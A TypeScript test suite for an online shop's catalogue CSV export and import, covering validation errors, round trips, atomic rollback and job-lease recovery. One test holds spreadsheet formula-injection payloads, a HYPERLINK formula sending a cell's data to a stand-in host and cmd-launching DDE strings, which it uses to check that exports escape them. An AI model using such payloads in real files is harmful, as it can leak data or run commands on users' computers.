// The catalogue CSV: export and template, the dry run's row-level errors, import jobs applied all or
// nothing, and a job whose worker died being finished by another.
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  ImportJobDataSchema,
  ImportPlanDataSchema,
  type ImportPlan,
} from '../../../contract/admin/catalogue.ts';
import { CATALOGUE_CSV_COLUMNS } from '../../../contract/admin/rules.ts';
import { envelope, ErrorBodySchema } from '../../../contract/catalogue.ts';
import { useTestApp } from '../../../tests/support/api.ts';
import { createStaff, type TestStaff } from '../../../tests/support/staff.ts';
import { csvLine, parseCsv } from '../../lib/csv.ts';
import { createImportsService } from './import.service.ts';

let editor: TestStaff;

const t = useTestApp();
beforeAll(async () => {
  editor = await createStaff(t.database, 'catalogue');
});

const BOM = '\uFEFF';
const HEADER = CATALOGUE_CSV_COLUMNS.join(',');

const get = async (url: string) => {
  const response = await t.app.inject({ url: `/api/v1${url}`, headers: editor.headers });
  return { status: response.statusCode, headers: response.headers, text: response.body };
};
const exportCsv = async () => {
  const res = await get('/admin/catalogue/export');
  expect(res.status).toBe(200);
  return res.text;
};
const send = async (mode: string, csv: string, contentType = 'text/csv; charset=utf-8') => {
  const response = await t.app.inject({
    method: 'POST',
    url: `/api/v1/admin/catalogue/import?mode=${mode}`,
    headers: { ...editor.headers, 'content-type': contentType },
    payload: csv,
  });
  return { status: response.statusCode, body: response.json() };
};
const dryRun = async (csv: string): Promise<ImportPlan> => {
  const res = await send('dry-run', csv);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return envelope(ImportPlanDataSchema).parse(res.body).data.plan;
};
/** Queues the file and runs the job to its end, as the API's worker does. */
const importCsv = async (csv: string) => {
  const res = await send('apply', csv);
  expect(res.status, JSON.stringify(res.body)).toBe(202);
  const queued = envelope(ImportJobDataSchema).parse(res.body).data.job;
  expect(queued).toMatchObject({ status: 'queued', processed: 0, created_by: { id: editor.id } });
  expect(await t.services.adminCatalogue.imports.runOnce()).toBe(queued.id);
  return job(queued.id);
};
const job = async (id: string) => {
  const res = await get(`/admin/jobs/${id}`);
  expect(res.status).toBe(200);
  return envelope(ImportJobDataSchema).parse(JSON.parse(res.text)).data.job;
};
/** A file with the given columns and rows (cells quoted as needed). */
const file = (columns: string[], rows: string[][]) =>
  csvLine(columns) + rows.map((row) => csvLine(row)).join('');
const versions = async () =>
  t.database.execute('SELECT id, version, updated_at FROM products ORDER BY id') as Promise<unknown[]>;

describe('export and template', () => {
  it('exports every product and variant as UTF-8 CSV with a byte-order mark, products then their variants', async () => {
    const res = await get('/admin/catalogue/export');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="catalogue-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text.startsWith(`${BOM}${HEADER}\r\n`)).toBe(true);
    const [{ n }] = (await t.database.execute(
      `SELECT (SELECT count(*) FROM products) + (SELECT count(*) FROM product_variants) AS n`,
    )) as [{ n: number }];
    const plan = await dryRun(res.text);
    expect(plan.rows).toBe(Number(n));
    expect(plan.errors).toEqual([]);
    expect(plan.products.create + plan.variants.create).toBe(0);
  });

  it("holds each product's HSN code, GST rate in per cent and units in stock (empty: not counted)", async () => {
    const [counted, uncounted] = await t.database.execute(
      `SELECT id, sku FROM products WHERE sku IS NOT NULL ORDER BY sku LIMIT 2`,
    );
    await t.database.execute(`UPDATE products SET hsn_code = '94036000', gst_rate_bp = 500 WHERE id = $1`, [
      counted!.id,
    ]);
    await t.database.execute(
      `INSERT INTO product_stock (product_id, quantity) VALUES ($1, 7)
       ON CONFLICT (product_id) DO UPDATE SET quantity = 7`,
      [counted!.id],
    );
    await t.database.execute('DELETE FROM product_stock WHERE product_id = $1', [uncounted!.id]);
    const parsed = parseCsv(await exportCsv());
    if ('message' in parsed) throw new Error(parsed.message);
    expect(parsed.header).toEqual([...CATALOGUE_CSV_COLUMNS]);
    expect(parsed.header).toEqual(expect.arrayContaining(['hsn_code', 'gst_rate', 'stock_quantity']));
    const cellsOf = (sku: unknown) => {
      const cells = parsed.rows.find((row) => row.cells[0] === sku)!.cells;
      return Object.fromEntries(parsed.header.map((column, index) => [column, cells[index]]));
    };
    expect(cellsOf(counted!.sku)).toMatchObject({ hsn_code: '94036000', gst_rate: '5', stock_quantity: '7' });
    const [tax] = await t.database.execute('SELECT hsn_code, gst_rate_bp FROM products WHERE id = $1', [
      uncounted!.id,
    ]);
    expect(cellsOf(uncounted!.sku)).toMatchObject({
      hsn_code: tax!.hsn_code,
      gst_rate: String(Number(tax!.gst_rate_bp) / 100),
      stock_quantity: '',
    });
  });

  it('offers a template: the header and one example row, which a dry run accepts as a new product', async () => {
    const res = await get('/admin/catalogue/template');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = res.text.split('\r\n').filter(Boolean);
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe(`${BOM}${HEADER}`);
    const plan = await dryRun(res.text);
    expect(plan).toMatchObject({ rows: 1, errors: [], products: { create: 1, update: 0 } });
  });
});

describe('a round trip', () => {
  it('keeps quotes, commas, apostrophes, ₹ and Hindi byte for byte: export → import → export', async () => {
    const [product] = await t.database.execute(
      `SELECT p.id FROM products p WHERE EXISTS (SELECT 1 FROM product_variants v WHERE v.product_id = p.id) ORDER BY p.sku LIMIT 1`,
    );
    await t.database.execute(
      `UPDATE products SET name = $2, description = $3, care_instructions = $4 WHERE id = $1`,
      [
        product!.id,
        `The "Maharaja's" Sofa, 3-seater – ₹ value`,
        `हाथ से बना सागौन, "jaali" work, 5' long;\nline two, with a comma`,
        `Don't soak; wipe dry — ₹0 upkeep`,
      ],
    );
    await t.database.execute(
      `UPDATE product_variants SET name = $2 WHERE product_id = $1 AND sort_order = 0`,
      [product!.id, `Teak, "dark" – सागौन`],
    );
    const first = await exportCsv();
    expect(first).toContain(`"The ""Maharaja's"" Sofa, 3-seater – ₹ value"`);
    expect(first).toContain(`"हाथ से बना सागौन, ""jaali"" work, 5' long;\nline two, with a comma"`);

    const finished = await importCsv(first);
    expect(finished.status, finished.error ?? '').toBe('succeeded');
    expect(finished.processed).toBe(finished.total);
    expect(finished.plan!.products.create + finished.plan!.variants.create).toBe(0);

    const second = await exportCsv();
    expect(Buffer.from(second).equals(Buffer.from(first))).toBe(true);
    const [stored] = await t.database.execute(
      'SELECT name, description, version FROM products WHERE id = $1',
      [product!.id],
    );
    expect(stored!.description).toBe(`हाथ से बना सागौन, "jaali" work, 5' long;\nline two, with a comma`);
    expect(stored!.version).toBe(2);
  });

  it('writes a cell a spreadsheet would run with an apostrophe first, and reads it back exactly', async () => {
    const [product] = await t.database.execute(
      `SELECT p.id FROM products p WHERE EXISTS (SELECT 1 FROM product_variants v WHERE v.product_id = p.id) ORDER BY p.sku DESC LIMIT 1`,
    );
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      brand: '+91 98765 43210',
      material: "-2+3+cmd|' /C calc'!A0",
      description: "@SUM(1+1)*cmd|' /C calc'!A0",
      care_instructions: "'=typed as text",
      warranty: '- 1 year on the frame',
    };
    await t.database.execute(
      `UPDATE products SET name = $2, brand = $3, material = $4, description = $5, care_instructions = $6,
              warranty = $7 WHERE id = $1`,
      [product!.id, ...Object.values(hostile)],
    );
    await t.database.execute(`DELETE FROM product_features WHERE product_id = $1`, [product!.id]);
    await t.database.execute(
      `INSERT INTO product_features (product_id, feature, sort_order) VALUES ($1, $2, 0), ($1, $3, 1)`,
      [product!.id, '=1+1', 'Solid wood'],
    );
    await t.database.execute(
      `UPDATE product_variants SET name = $2 WHERE product_id = $1 AND sort_order = 0`,
      [product!.id, '=cmd|"/C calc"!A0'],
    );
    const first = await exportCsv();
    const cells = (parse(first, { bom: true }) as string[][]).flat();
    const raw = Object.values(hostile).map((value) => value.replace(/^'/, ''));
    for (const value of [...raw, '=1+1 | Solid wood', '=cmd|"/C calc"!A0'])
      expect(cells, value).not.toContain(value);
    for (const value of [...Object.values(hostile), '=1+1 | Solid wood', '=cmd|"/C calc"!A0'])
      expect(cells, value).toContain(`'${value}`);

    const finished = await importCsv(first);
    expect(finished.status, finished.error ?? '').toBe('succeeded');
    const [stored] = await t.database.execute(
      `SELECT name, brand, material, description, care_instructions, warranty FROM products WHERE id = $1`,
      [product!.id],
    );
    expect(stored).toEqual(hostile);
    const second = await exportCsv();
    expect(Buffer.from(second).equals(Buffer.from(first))).toBe(true);
  });

  it('reads a file without the byte-order mark, with LF line ends, and with columns in any order', async () => {
    const [row] = await t.database.execute(
      `SELECT sku, price FROM products WHERE sku IS NOT NULL ORDER BY sku LIMIT 1`,
    );
    const csv = `price,sku\n${Number(row!.price) + 1},${String(row!.sku)}\n`;
    expect(await dryRun(csv)).toMatchObject({ rows: 1, errors: [], products: { create: 0, update: 1 } });
    expect(await dryRun(`${BOM}${csv}`)).toMatchObject({ rows: 1, errors: [] });
  });
});

describe('a dry run', () => {
  it('lists every problem by row and column, and changes nothing', async () => {
    const before = await versions();
    const [variant] = await t.database.execute(
      `SELECT v.sku, p.sku AS product_sku FROM product_variants v JOIN products p ON p.id = v.product_id LIMIT 1`,
    );
    const [other] = await t.database.execute(
      `SELECT p.sku FROM products p WHERE p.sku <> $1 ORDER BY p.sku LIMIT 1`,
      [variant!.product_sku],
    );
    const csv = file(
      [
        'sku',
        'parent_sku',
        'name',
        'price',
        'discount_price',
        'category',
        'stock_status',
        'is_featured',
        'status',
        'slug',
      ],
      [
        ['NEW-1', '', 'New Chair', '12,500', '', '', '', '', '', ''],
        ['NEW-2', '', '', '900', '', 'no-such-category', 'plenty', 'maybe', 'live', 'Bad Slug'],
        ['NEW-3', 'NO-SUCH-PARENT', 'Variant', '100', '', '', '', '', '', ''],
        [String(variant!.sku), '', 'Now a product?', '100', '', '', '', '', '', ''],
        ['new-1', '', 'Same SKU again', '100', '', '', '', '', '', ''],
        ['NEW-4', '', 'Cheap', '100', '150', '', '', '', '', ''],
        [String(variant!.sku), String(other!.sku), 'Moved', '100', '', '', '', '', '', ''],
        ['NEW-5', '', 'Short row'],
        ['', '', 'No SKU', '100', '', '', '', '', '', ''],
      ],
    );
    const plan = await dryRun(csv);
    const issues = plan.errors.map((e) => [e.row, e.column]);
    expect(plan.errors.find((e) => e.row === 2 && e.column === 'price')!.message).toMatch(
      /whole rupees in digits/,
    );
    expect(issues).toEqual(
      expect.arrayContaining([
        [3, 'name'],
        [3, 'category'],
        [3, 'stock_status'],
        [3, 'is_featured'],
        [3, 'status'],
        [3, 'slug'],
        [4, 'parent_sku'],
        [5, 'sku'],
        [6, 'sku'],
        [7, 'discount_price'],
        [9, null],
        [10, 'sku'],
      ]),
    );
    expect(plan.errors.find((e) => e.row === 5)!.message).toMatch(/is a variant of .*give it a parent_sku/);
    expect(plan.errors.find((e) => e.row === 6)!.message).toMatch(/also in row 2/);
    expect(plan.errors.find((e) => e.row === 8)!.message).toMatch(/also in row 5/);
    expect(plan.errors.find((e) => e.row === 9)!.message).toMatch(/3 cells; the header has 10/);
    expect(plan.errorsTruncated).toBe(false);
    expect(await versions()).toEqual(before);
  });

  it('refuses an id column, unknown columns and a file without sku, at the header', async () => {
    const idPlan = await dryRun('id,sku,name\n1,X,Y\n');
    expect(idPlan.errors).toEqual([
      {
        row: 1,
        column: 'id',
        message: expect.stringMatching(/matches rows by sku, never by an internal id/),
      },
    ]);
    const unknown = await dryRun('sku,colour\nX,red\n');
    expect(unknown.errors).toEqual([
      { row: 1, column: 'colour', message: expect.stringMatching(/Unknown column "colour"/) },
    ]);
    expect((await dryRun('name,price\nX,1\n')).errors[0]).toMatchObject({ row: 1, column: 'sku' });
    expect((await dryRun('')).errors[0]!.message).toMatch(/empty/);
    expect((await dryRun('sku,name\n"unclosed,x\n')).errors[0]!.message).toMatch(/not valid CSV/);
  });

  it('lists at most 200 errors and says there are more', async () => {
    const rows = Array.from({ length: 250 }, (_, i) => [`BAD-${i}`, 'x', 'not-a-price']);
    const plan = await dryRun(file(['sku', 'name', 'price'], rows));
    expect(plan.errors).toHaveLength(200);
    expect(plan.errorsTruncated).toBe(true);
  });

  it('answers 400, 413 and 415 for what is not a CSV import', async () => {
    const noMode = await t.app.inject({
      method: 'POST',
      url: '/api/v1/admin/catalogue/import',
      headers: { ...editor.headers, 'content-type': 'text/csv' },
      payload: 'sku\n',
    });
    expect(noMode.statusCode).toBe(400);
    expect(noMode.json().error).toMatch(/mode must be dry-run or apply/);
    const json = await send('dry-run', JSON.stringify({ sku: 'x' }), 'application/json');
    expect(json.status).toBe(415);
    expect(json.body.error).toMatch(/text\/csv/);
    const huge = await send('dry-run', `sku\n${'x'.repeat(26 * 1024 * 1024)}\n`);
    expect(huge.status).toBe(413);
    expect(huge.body.error).toBe('The file is too large: at most 25 MB.');
  });
});

describe('an import', () => {
  it('is refused while the file has problems (422, with the plan)', async () => {
    const [row] = await t.database.execute('SELECT sku FROM products ORDER BY sku LIMIT 1');
    const jobs = () => t.database.execute('SELECT id FROM import_jobs');
    const before = await jobs();
    const res = await send('apply', `sku,price\n${String(row!.sku)},abc\n`);
    expect(res.status).toBe(422);
    expect(ErrorBodySchema.parse(res.body).error).toMatch(
      /1 problem; nothing was imported\. The first: row 2, price/,
    );
    expect(res.body.details.plan.errors).toHaveLength(1);
    expect(await jobs()).toEqual(before);
  });

  it('creates and updates products and variants keyed on SKU, with progress, and one audit entry', async () => {
    const [existing] = await t.database.execute(
      `SELECT p.id, p.sku, p.name, p.brand, p.version FROM products p WHERE p.brand IS NOT NULL ORDER BY p.sku LIMIT 1`,
    );
    const [category] = await t.database.execute('SELECT id, slug FROM categories ORDER BY slug LIMIT 1');
    const csv = file(
      ['sku', 'parent_sku', 'name', 'price', 'category', 'features', 'specifications', 'status'],
      [
        [
          'IMP-SOFA',
          '',
          'Imported Sofa',
          '45000',
          String(category!.slug),
          'Soft | Deep seat',
          'Seats: 3 | Fabric: Linen',
          'published',
        ],
        ['IMP-SOFA-BLUE', 'imp-sofa', 'Blue', '46000', '', '', '', ''],
        ['IMP-SOFA-GREY', 'IMP-SOFA', 'Grey', '45500', '', '', '', ''],
        [String(existing!.sku), '', 'Renamed by import', '5000', String(category!.slug), '', '', ''],
        [`${String(existing!.sku)}-XL`, String(existing!.sku), 'Extra large', '7000', '', '', '', ''],
      ],
    );
    expect(await dryRun(csv)).toMatchObject({
      rows: 5,
      products: { create: 1, update: 1 },
      variants: { create: 3, update: 0 },
    });
    const done = await importCsv(csv);
    expect(done).toMatchObject({ status: 'succeeded', total: 5, processed: 5, error: null });
    expect(done.finished_at).not.toBeNull();

    const [created] = await t.database.execute(
      `SELECT id, slug, status, category_id, price, stock_status, is_featured, version FROM products WHERE sku = 'IMP-SOFA'`,
    );
    expect(created).toMatchObject({
      slug: 'imported-sofa',
      status: 'published',
      category_id: category!.id,
      price: 45_000,
      stock_status: 'in_stock',
      is_featured: false,
    });
    const variants = await t.database.execute(
      `SELECT name, sku, sort_order FROM product_variants WHERE product_id = $1 ORDER BY sort_order`,
      [created!.id],
    );
    expect(variants).toEqual([
      { name: 'Blue', sku: 'IMP-SOFA-BLUE', sort_order: 0 },
      { name: 'Grey', sku: 'IMP-SOFA-GREY', sort_order: 1 },
    ]);
    const shop = (await t.app.inject({ url: '/api/v1/products/slug/imported-sofa' })).json().data.product;
    expect(shop.features).toEqual(['Soft', 'Deep seat']);
    expect(shop.specifications).toEqual([
      { name: 'Seats', value: '3' },
      { name: 'Fabric', value: 'Linen' },
    ]);

    const [updated] = await t.database.execute(
      'SELECT name, brand, price, version FROM products WHERE id = $1',
      [existing!.id],
    );
    // Only the columns the file has change; the brand column was not in it.
    expect(updated).toMatchObject({
      name: 'Renamed by import',
      brand: existing!.brand,
      price: 5000,
      version: Number(existing!.version) + 1,
    });
    const entries = await t.database.execute(`SELECT * FROM audit_log WHERE action = 'catalogue.import'`);
    expect(entries.at(-1)).toMatchObject({
      entity_type: 'import_job',
      entity_id: done.id,
      actor_email: editor.email,
      after: { rows: 5, products: { create: 1, update: 1 }, variants: { create: 3, update: 0 } },
    });
    expect(await t.database.execute('SELECT * FROM import_rows WHERE job_id = $1', [done.id])).toEqual([]);
  });

  it('changes nothing at all when the apply fails at its end', async () => {
    const [a, b] = await t.database.execute(`SELECT id, sku, name FROM products ORDER BY sku LIMIT 2`);
    const csv = file(
      ['sku', 'name', 'slug', 'price'],
      [
        [String(a!.sku), 'All or nothing A', 'all-or-nothing-a', '1000'],
        [String(b!.sku), 'All or nothing B', 'taken-meanwhile', '2000'],
        ['AON-NEW', 'All or nothing new', '', '3000'],
      ],
    );
    const res = await send('apply', csv);
    expect(res.status).toBe(202);
    const queued = envelope(ImportJobDataSchema).parse(res.body).data.job;
    // Between the dry run and the job, someone takes a slug the file gives.
    await t.database.execute(
      `INSERT INTO products (name, slug, sku, price) VALUES ('Interloper', 'taken-meanwhile', 'INTERLOPER', 10)`,
    );
    const before = await versions();
    await t.services.adminCatalogue.imports.runOnce();
    const failed = await job(queued.id);
    expect(failed.status).toBe('failed');
    expect(failed.error).toMatch(/problem; nothing was imported/);
    expect(failed.plan!.errors[0]).toMatchObject({ row: 3, column: 'slug' });
    expect(await versions()).toEqual(before);
    expect(await t.database.execute(`SELECT 1 FROM products WHERE sku = 'AON-NEW'`)).toEqual([]);
  });

  it('rolls everything back when the catalogue refuses a row while the job applies', async () => {
    const [a] = await t.database.execute(`SELECT id, sku FROM products ORDER BY sku LIMIT 1`);
    const csv = file(
      ['sku', 'name', 'price'],
      [
        [String(a!.sku), 'Rolled back', '777'],
        ['ROLLBACK-NEW', 'Rolled back too', '888'],
      ],
    );
    const res = await send('apply', csv);
    const queued = envelope(ImportJobDataSchema).parse(res.body).data.job;
    const imports = t.services.adminCatalogue.imports;
    // The SKU is taken while the rows are being staged: the plan was right, the catalogue changed.
    const original = t.database.db.transaction.bind(t.database.db);
    let interfered = false;
    (t.database.db as { transaction: unknown }).transaction = async (work: never) => {
      if (!interfered) {
        interfered = true;
        await t.database.execute(
          `INSERT INTO products (name, slug, sku, price) VALUES ('Sneaky', 'sneaky-rollback', 'rollback-new', 10)`,
        );
      }
      return original(work);
    };
    try {
      await imports.runOnce();
    } finally {
      (t.database.db as { transaction: unknown }).transaction = original;
    }
    const failed = await job(queued.id);
    expect(failed.status).toBe('failed');
    expect(failed.error).toMatch(/catalogue changed while the import ran/);
    const [stored] = await t.database.execute('SELECT name, price FROM products WHERE id = $1', [a!.id]);
    expect(stored!.name).not.toBe('Rolled back');
    expect(await t.database.execute(`SELECT 1 FROM products WHERE sku = 'ROLLBACK-NEW'`)).toEqual([]);
  });

  it('is finished by another worker when the one that claimed it died', async () => {
    const csv = file(
      ['sku', 'name', 'price'],
      [
        ['ORPHAN-1', 'Orphan one', '100'],
        ['ORPHAN-2', 'Orphan two', '200'],
      ],
    );
    const res = await send('apply', csv);
    const queued = envelope(ImportJobDataSchema).parse(res.body).data.job;
    // A worker claims the job and dies before finishing (here: it never runs it).
    const dead = createImportsService(t.database, { workerId: 'dead-worker', leaseMs: 60_000 });
    await t.database.execute(
      `UPDATE import_jobs SET status = 'running', locked_by = 'dead-worker', locked_until = now() + interval '1 minute',
              attempts = 1, started_at = now(), processed = 1 WHERE id = $1`,
      [queued.id],
    );
    await t.database.execute(
      `INSERT INTO import_rows (job_id, line, kind, target_id, is_new, sku) VALUES ($1, 2, 'product', gen_random_uuid(), true, 'ORPHAN-1')`,
      [queued.id],
    );
    const live = t.services.adminCatalogue.imports;
    // While its lease lasts, nobody else takes it.
    expect(await live.runOnce()).toBeNull();
    expect((await job(queued.id)).status).toBe('running');
    // The lease runs out: the next round finishes it.
    await t.database.execute(
      `UPDATE import_jobs SET locked_until = now() - interval '1 second' WHERE id = $1`,
      [queued.id],
    );
    expect(await live.runOnce()).toBe(queued.id);
    const finished = await job(queued.id);
    expect(finished).toMatchObject({ status: 'succeeded', processed: 2 });
    expect(
      await t.database.execute(`SELECT name FROM products WHERE sku LIKE 'ORPHAN-%' ORDER BY sku`),
    ).toEqual([{ name: 'Orphan one' }, { name: 'Orphan two' }]);
    // The dead worker, waking up, finds nothing to do and cannot apply the job again.
    expect(await dead.runOnce()).toBeNull();
    const [{ n }] = (await t.database.execute(
      `SELECT count(*)::int AS n FROM audit_log WHERE action = 'catalogue.import' AND entity_id = $1`,
      [queued.id],
    )) as [{ n: number }];
    expect(n).toBe(1);
  });

  it('stops a worker that lost its lease before it applies anything', async () => {
    const csv = file(['sku', 'name', 'price'], [['LATE-1', 'Late one', '100']]);
    const queued = envelope(ImportJobDataSchema).parse((await send('apply', csv)).body).data.job;
    const slow = createImportsService(t.database, { workerId: 'slow-worker' });
    // The slow worker claims the job; another takes it over once the lease is (wrongly) thought over.
    const original = t.database.db.transaction.bind(t.database.db);
    (t.database.db as { transaction: unknown }).transaction = async (work: never) => {
      await t.database.execute(`UPDATE import_jobs SET locked_by = 'someone-else' WHERE id = $1`, [
        queued.id,
      ]);
      return original(work);
    };
    try {
      await slow.runOnce();
    } finally {
      (t.database.db as { transaction: unknown }).transaction = original;
    }
    expect(await t.database.execute(`SELECT 1 FROM products WHERE sku = 'LATE-1'`)).toEqual([]);
    expect((await job(queued.id)).status).toBe('running');
    await t.database.execute(
      `UPDATE import_jobs SET locked_until = now() - interval '1 second' WHERE id = $1`,
      [queued.id],
    );
    await t.services.adminCatalogue.imports.runOnce();
    expect((await job(queued.id)).status).toBe('succeeded');
  });

  it('sets HSN codes, GST rates and units in stock; an empty cell keeps what is stored', async () => {
    const [a, b] = await t.database.execute(
      `SELECT id, sku, name, price, hsn_code, gst_rate_bp FROM products WHERE sku IS NOT NULL ORDER BY sku DESC LIMIT 2`,
    );
    await t.database.execute(
      `INSERT INTO product_stock (product_id, quantity) VALUES ($1, 9)
       ON CONFLICT (product_id) DO UPDATE SET quantity = 9`,
      [b!.id],
    );
    const csv = file(
      ['sku', 'name', 'price', 'hsn_code', 'gst_rate', 'stock_quantity'],
      [
        [String(a!.sku), String(a!.name), String(a!.price), '940171', '5', '25'],
        [String(b!.sku), String(b!.name), String(b!.price), '', '', ''],
        ['GST-NEW-1', 'Planter with a rate', '1500', '6914', '5 %', '3'],
        ['GST-NEW-2', 'Planter by default', '1200', '', '', ''],
        ['GST-NEW-3', 'Planter sold out', '900', '6914', '5', '0'],
      ],
    );
    expect(await dryRun(csv)).toMatchObject({ errors: [], products: { create: 3, update: 2 } });
    const done = await importCsv(csv);
    expect(done.status, done.error ?? '').toBe('succeeded');
    const stored = async (sku: string) =>
      (
        await t.database.execute(
          `SELECT p.hsn_code, p.gst_rate_bp, s.quantity FROM products p
           LEFT JOIN product_stock s ON s.product_id = p.id WHERE p.sku = $1`,
          [sku],
        )
      )[0];
    expect(await stored(String(a!.sku))).toEqual({ hsn_code: '940171', gst_rate_bp: 500, quantity: 25 });
    expect(await stored(String(b!.sku))).toEqual({
      hsn_code: b!.hsn_code,
      gst_rate_bp: b!.gst_rate_bp,
      quantity: 9,
    });
    expect(await stored('GST-NEW-1')).toEqual({ hsn_code: '6914', gst_rate_bp: 500, quantity: 3 });
    expect(await stored('GST-NEW-2')).toEqual({ hsn_code: '9403', gst_rate_bp: 1800, quantity: null });
    // Counted units decide the stock state: none left is out of stock.
    const [soldOut] = await t.database.execute(`SELECT stock_status FROM products WHERE sku = 'GST-NEW-3'`);
    expect(soldOut!.stock_status).toBe('out_of_stock');
  });

  it('lists a bad HSN code, GST rate or count by row and column, and a count on a variant row', async () => {
    const [variant] = await t.database.execute(
      `SELECT v.sku, p.sku AS product_sku FROM product_variants v JOIN products p ON p.id = v.product_id
       WHERE v.sku IS NOT NULL AND p.sku IS NOT NULL LIMIT 1`,
    );
    const [a, b, c] = await t.database.execute(
      `SELECT sku FROM products WHERE sku IS NOT NULL AND sku <> $1 ORDER BY sku LIMIT 3`,
      [variant!.product_sku],
    );
    const before = await versions();
    const plan = await dryRun(
      file(
        ['sku', 'parent_sku', 'hsn_code', 'gst_rate', 'stock_quantity'],
        [
          [String(a!.sku), '', '9403', '12', ''],
          [String(b!.sku), '', '94-03', 'eighteen', '-4'],
          [String(c!.sku), '', '', '', '2.5'],
          [String(variant!.sku), String(variant!.product_sku), '', '', '3'],
        ],
      ),
    );
    expect(plan.errors.map((e) => [e.row, e.column])).toEqual([
      [2, 'gst_rate'],
      [3, 'hsn_code'],
      [3, 'gst_rate'],
      [3, 'stock_quantity'],
      [4, 'stock_quantity'],
      [5, 'stock_quantity'],
    ]);
    expect(plan.errors[0]!.message).toBe('GST rate must be 0, 5, 18 or 40 (%), not "12".');
    expect(plan.errors[1]!.message).toMatch(/HSN code must be 4, 6 or 8 digits, not "94-03"/);
    expect(plan.errors[3]!.message).toMatch(/Units in stock must be a whole number/);
    expect(plan.errors[5]!.message).toMatch(/applies to products; leave it empty on a variant row/);
    expect(await versions()).toEqual(before);
  });

  it('answers 404 for an unknown job', async () => {
    expect((await get('/admin/jobs/00000000-0000-4000-8000-000000000000')).status).toBe(404);
  });
});
